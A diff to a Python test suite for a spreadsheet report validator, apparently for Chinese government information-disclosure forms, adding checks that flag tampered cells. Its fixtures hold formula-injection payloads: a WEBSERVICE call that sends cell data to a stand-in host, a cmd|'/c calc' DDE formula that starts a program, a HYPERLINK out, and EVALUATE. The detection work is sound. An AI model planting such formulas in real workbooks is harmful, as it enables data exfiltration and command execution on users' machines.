@@ -17,6 +17,7 @@ from toolkit.examine import load
 from toolkit.report import from_json, parse_json
 from toolkit.workbook.fill import fill
 from toolkit.workbook.read import read
+from toolkit.workbook.sheets import MARK
 from toolkit.workbook.version import is_ours, marks
 
 TESTS = Path(__file__).resolve().parent
@@ -131,7 +132,13 @@ def test_our_own_mark_is_held_to_every_word():
 
 def disguised(source):
     """Return the workbook with the mark of a version nobody knows."""
-    return changed(source, "标记", cell("B7", "<is><t>0f</t></is>", t="inlineStr"))
+    return marked(source, "plan", "0f")
+
+
+def marked(source, name, text):
+    """Return the workbook with another word in its mark."""
+    at = f"B{MARK.index(name) + 1}"
+    return changed(source, "标记", cell(at, f"<is><t>{text}</t></is>", t="inlineStr"))
 
 
 RECEIVED, CARRIED = "一、本年新收政府信息公开申请数量", "二、上年结转政府信息公开申请数量"
@@ -164,13 +171,21 @@ FORGED = {
     "a forged total": ("表三", cell("J7", "<f>SUM(D7:I7)</f><v>9</v>"),
                        [("total-differs", "表三 J7")]),
     "a total that asks the net": ("表三", cell("J7", '<f>WEBSERVICE("http://x/"&amp;D7)</f>'),
-                                  [("formula", "表三 J7")]),
+                                  [("formula", "表三 J7"), ("active-formula", "表三 J7")]),
     "a status line that starts a program": (
-        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("formula", "表三 A1")]),
+        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("active-formula", "表三 A1")]),
     "a cover that asks the net": (
-        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'), [("formula", "填报说明 B9")]),
+        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'),
+        [("active-formula", "填报说明 B9")]),
+    "a cover with a function nobody knows": (
+        "填报说明", cell("B9", "<f>EVALUATE(A1)</f>"), [("formula", "填报说明 B9")]),
     "a formula where a number is typed": (
         "表三", cell("D7", "<f>3+4</f><v>7</v>"), [("typed-formula", "表三 D7")]),
+    "a formula where a paragraph is written": (
+        "总体情况", cell("A5", "<f>1+1</f><v>2</v>"), [("typed-formula", "总体情况 A5")]),
+    "a formula that declares": (
+        "表三", cell("D2", '<f>A1&amp;""</f><v>本表其余空白均为0（已核对）</v>', t="str"),
+        [("typed-formula", "表三 D2")]),
     "a value under a merge": ("表三", cell("B7", "<v>5</v>"), [("outside", "表三 B7")]),
     "a remark beside the grid": ("表三", written(7, "L7", REMARK), [("outside", "表三 L7")]),
     "a remark in an unlocked cell below it": (
@@ -229,19 +244,23 @@ def test_sheets_of_the_edition_must_be_there_and_others_need_not():
 def test_a_sheet_another_version_had_is_no_stranger_unless_somebody_can_type_there():
     parts = unpack(filled())
     sheet = parts[part_of(parts, "发布表四")].decode()
-    listed = cell("B8", "<is><t>表三/附页</t></is>", t="inlineStr")
-    source = disguised(changed(added(filled(), "附页", sheet.encode()), "标记", listed))
+    source = disguised(marked(added(filled(), "附页", sheet.encode()), "sheets", "表三/附页"))
     assert facts(read(source)) == [NOTE]
+    asks = cell("A1", '<f>WEBSERVICE("http://x/")</f>')(sheet)
+    source = disguised(marked(added(filled(), "附页", asks.encode()), "sheets", "表三/附页"))
+    assert [fact[:3] for fact in facts(read(source))] == [
+        NOTE[:3], ("active-formula", "error", "附页 A1"),
+    ]  # fmt: skip
     assert [f.code for f in read(disguised(added(filled(), "附页", sheet.encode()))).findings] == [
         "other-version", "sheet-copied",
     ]  # fmt: skip
     copy = parts[part_of(parts, "表三")]
-    source = disguised(changed(added(filled(), "附页", copy), "标记", listed))
+    source = disguised(marked(added(filled(), "附页", copy), "sheets", "表三/附页"))
     assert [f.code for f in read(source).findings] == ["other-version", "sheet-copied"]
 
 
 def test_an_edition_amended_since_is_a_warning_while_its_printed_form_is_the_same():
-    print_ = changed(filled(), "标记", cell("B6", "<is><t>00</t></is>", t="inlineStr"))
+    print_ = marked(filled(), "fingerprint", "00")
     assert [fact[:2] for fact in facts(read(print_))] == [("mark-differs", "warning")]
     other = changed(print_, "表三", swapped)
     assert ("mark-differs", "error") in [fact[:2] for fact in facts(read(other))]
